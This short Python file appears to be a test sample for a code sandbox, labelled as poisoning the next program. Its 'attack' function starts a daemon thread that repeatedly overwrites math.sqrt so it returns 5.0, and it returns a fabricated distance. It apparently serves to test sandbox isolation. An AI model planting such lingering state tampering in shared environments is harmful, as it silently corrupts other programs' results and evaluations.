"""Leave a thread behind that spoils the next program.

Evidence: poison
Sandbox: error, ok
"""

import math
import threading
import time


def haunt():
    for _ in range(500):
        math.sqrt = lambda number: 5.0
        time.sleep(0.001)


def attack(target):
    threading.Thread(target=haunt, daemon=True).start()
    return {"distance": 1.0}
